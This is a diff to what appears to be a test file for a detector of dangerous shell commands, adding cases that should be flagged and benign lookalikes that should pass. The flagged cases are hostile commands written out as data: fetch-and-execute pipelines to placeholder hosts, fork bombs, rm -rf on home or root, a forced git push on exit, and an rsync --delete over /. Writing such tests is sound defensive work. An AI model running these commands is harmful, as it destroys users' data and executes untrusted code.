@@ -71,6 +71,23 @@ curl http://x | sh | input
 curl -s http://x | sudo bash | input
 curl http://x | python3 | downloaded
 bash <(curl http://x) | output of another command
+curl -o x http://y && sh x | downloaded
+curl -O http://y/install.sh; bash install.sh | downloaded
+wget http://y/install.py && python3 ./install.py | downloaded
+curl http://y > x; sh ./x | downloaded
+python3 -c "$(curl http://x)" | downloaded
+perl -e "$(wget -qO- http://x)" | downloaded
+curl http://x | source /dev/stdin | input
+function b { b|b& }; b | over and over
+function b() { b | b & }; b | over and over
+b() ( b|b& ); b | over and over
+busybox rm -rf ~ | home
+trash ~ | home
+trap 'rm -rf ~' EXIT | home
+trap 'git push -f' EXIT | overwrites
+parallel rm -rf ::: / | worked in
+ssh host rm -rf / | worked in
+rsync -a --delete empty/ / | source
 sh -c "$(curl http://x)" | computed
 eval "$(curl http://x)" | computed
 echo cm0gLXJm | base64 -d | sh | input
@@ -199,6 +216,18 @@ git reset HEAD
 curl http://x
 curl -o x http://x
 curl http://x | tee out
+curl -o data.json http://x && python3 process.py
+curl -o x http://y && cat x
+python3 -c "print('$(date)')"
+python3 x.py "$(curl http://x)"
+busybox rm -rf build
+trash build
+trap 'rm -rf build' EXIT
+ssh host rm -rf build
+rsync -a --delete src/ out/
+rsync -a dist/ /
+f() { a | b; }; f
+function f { a | b & }; f
 bash script.sh
 python3 -m pytest
 python3 -c 'print(1)'
